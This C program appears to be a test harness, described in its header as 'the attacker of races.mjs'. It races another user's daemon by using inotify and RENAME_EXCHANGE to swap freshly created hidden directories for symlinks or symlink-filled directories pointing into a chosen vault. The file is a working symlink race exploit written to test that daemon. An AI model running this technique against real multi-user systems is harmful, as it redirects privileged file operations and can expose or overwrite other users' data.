/*
 * racer DIRECTORY VAULT LURE: the attacker of races.mjs. DIRECTORY belongs to its user, and a daemon of another user starts servers there.
 *
 * As soon as a hidden directory appears, it is exchanged for a directory with symbolic links in it (to files in VAULT), or for a symbolic
 * link to VAULT, after a random delay of microseconds. The hidden directory gets the name LURE, by which it looks like one that a killed
 * process has left; that is exchanged for a link to VAULT again and again.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *vault, *lure;

static double microseconds(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec * 1e6 + now.tv_nsec / 1e3;
}

static int exchange(const char *one, const char *other) {
  return syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
}

static void link_into_vault(const char *name, const char *path) {
  char target[4096];
  snprintf(target, sizeof target, "%s/%s", vault, name);
  if (symlink(target, path) != 0) exit(3);
}

/* Makes "trap", which takes the place of the next hidden directory. */
static void set_trap(int kind) {
  if (kind == 0) {
    if (symlink(vault, "trap") != 0) exit(3);
    return;
  }
  if (mkdir("trap", 0777) != 0 || chmod("trap", 0777) != 0) exit(3);
  link_into_vault("s", "trap/s");
  link_into_vault("stale", "trap/stale");
}

int main(int argc, char **argv) {
  char events[8192], used[64];
  int count = 0;
  if (argc < 4 || chdir(argv[1]) != 0) return 2;
  vault = argv[2];
  lure = argv[3];
  srand(time(0));
  set_trap(0);
  if (symlink(vault, "other-lure") != 0) return 3;
  int watch = inotify_init1(IN_NONBLOCK);
  if (inotify_add_watch(watch, ".", IN_CREATE) < 0) return 3;
  puts("ready");
  fflush(stdout);
  for (;;) {
    struct pollfd ready = {watch, POLLIN, 0};
    if (poll(&ready, 1, 1) == 0) {
      exchange(lure, "other-lure");
      continue;
    }
    int length = read(watch, events, sizeof events);
    for (char *at = events; length > 0 && at < events + length;) {
      struct inotify_event *event = (void *)at;
      at += sizeof *event + event->len;
      if (event->len == 0 || event->name[0] != '.' || !(event->mask & IN_ISDIR)) continue;
      for (double until = microseconds() + rand() % (rand() % 2 ? 200 : 4000); microseconds() < until;) {
      }
      if (exchange("trap", event->name) != 0) continue;
      puts("exchanged");
      fflush(stdout);
      usleep(2000);
      /* What was the hidden directory is the trap now: it becomes the lure. */
      unlink(lure);
      snprintf(used, sizeof used, "used%d", count++);
      rename(lure, used);
      rename("trap", lure);
      set_trap(rand() % 2);
      unlink("app.sock");
    }
  }
}
